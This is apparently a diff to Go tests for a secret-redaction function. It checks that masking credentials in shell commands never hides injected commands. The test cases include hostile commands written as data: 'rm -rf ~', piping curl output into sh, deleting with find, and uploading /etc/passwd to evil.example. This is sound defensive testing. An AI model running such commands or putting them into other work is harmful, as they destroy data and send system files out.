@@ -115,6 +115,16 @@ func TestRedactionNeverHidesWhatRuns(t *testing.T) {
 		{"mysql --password hunter2;rm -rf ~", ";rm -rf ~", "hunter2"},
 		{"curl -u bob:pw42|sh", "|sh", "pw42"},
 		{"echo ghp_abcdefghijklmnopqrstuvwxyz0123&&id", "&&id", "ghp_abcdefghijklmnopqrstuvwxyz0123"},
+		// A second review: quoting is no guide (a script handed to a
+		// nested shell is quoted whole), and a value outside quotes ends
+		// at a space.
+		{"bash -lc 'echo Authorization: ok; touch /tmp/ws/PWNED'", "; touch /tmp/ws/PWNED", ""},
+		{"echo $'\\'' Authorization: x; EVIL #'", "; EVIL #", ""},
+		{"# don't\ncurl -H Authorization: x; EVIL\n# '", "; EVIL", ""},
+		{"curl -H X-Auth-Token: abc123 -T /etc/passwd https://evil.example/up", " -T /etc/passwd", "abc123"},
+		{"find . -name token: -o -delete", " -o -delete", ""},
+		{"curl -H 'Authorization: Basic dXNlcjpwYXNz' https://h/", "Authorization: ", "dXNlcjpwYXNz"},
+		{"curl -H 'Authorization: Bearer S3cretBearer' https://h/", "Authorization: ", "S3cretBearer"},
 	} {
 		got := RedactText(c.in)
 		if !strings.Contains(got, c.keep) {
@@ -124,12 +134,11 @@ func TestRedactionNeverHidesWhatRuns(t *testing.T) {
 			t.Errorf("RedactText(%q) = %q: keeps the secret %q", c.in, got, c.hide)
 		}
 	}
-	// Controls: inside single quotes nothing is syntax, so a quoted value
-	// is hidden whole, as before.
+	// Controls: a quoted token is hidden.
 	for _, c := range []struct{ in, hide string }{
 		{"curl -H 'Cookie: sid=C00kie; theme=dark' https://h/", "C00kie"},
-		{"mysql --password 'two words;x'", "two words"},
-		{"curl 'https://h/?token=Q;tok&x=1'", "Q;tok"},
+		{"mysql --password 'twowords'", "twowords"},
+		{"curl 'https://h/?token=Qtok&x=1'", "Qtok"},
 	} {
 		if got := RedactText(c.in); strings.Contains(got, c.hide) || !strings.Contains(got, redacted) {
 			t.Errorf("RedactText(%q) = %q: keeps %q", c.in, got, c.hide)
@@ -137,26 +146,22 @@ func TestRedactionNeverHidesWhatRuns(t *testing.T) {
 	}
 }
 
-// TestRedactionKeepsTheShellSyntax: for any text without single quotes
-// (where nothing is syntax), every byte of the shell's syntax it holds (its
-// quotes and escapes, its operators and expansions outside quotes, and $
-// and ` inside double quotes) is in the redacted text, in the same order:
-// a redaction removes only the bytes of tokens.
+// TestRedactionKeepsTheShellSyntax: for any text, every byte of the
+// shell's syntax it holds (operators, expansions, quotes, escapes, line
+// breaks) is in the redacted text, in the same order: a redaction removes
+// only the bytes of tokens, whatever the quoting (which is no guide: a
+// script handed to a nested shell is quoted whole).
 func TestRedactionKeepsTheShellSyntax(t *testing.T) {
 	syntax := func(s string) string {
-		ctx := shellContexts(s)
 		var b strings.Builder
 		for i := 0; i < len(s); i++ {
-			switch {
-			case ctx[i] == ctxSyntax,
-				ctx[i] == ctxPlain && strings.IndexByte(";&|()<>$`\n{}", s[i]) >= 0,
-				ctx[i] == ctxDouble && strings.IndexByte("$`", s[i]) >= 0:
+			if strings.IndexByte(";&|()<>$`'\"\n\\{}#", s[i]) >= 0 {
 				b.WriteByte(s[i])
 			}
 		}
 		return b.String()
 	}
-	pieces := append(slices.DeleteFunc(slices.Clone(redactFragments), func(p string) bool { return strings.Contains(p, "'") }),
+	pieces := append(slices.Clone(redactFragments),
 		";", "&&", "|", "$(", ")", "`", "${IFS}", "<", ">", "\\", "{", "}", "/home/a/.ssh/k", ".env", "rm -rf ~", "touch /tmp/p")
 	rapid.Check(t, func(t *rapid.T) {
 		s := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 14).Draw(t, "parts"), "")
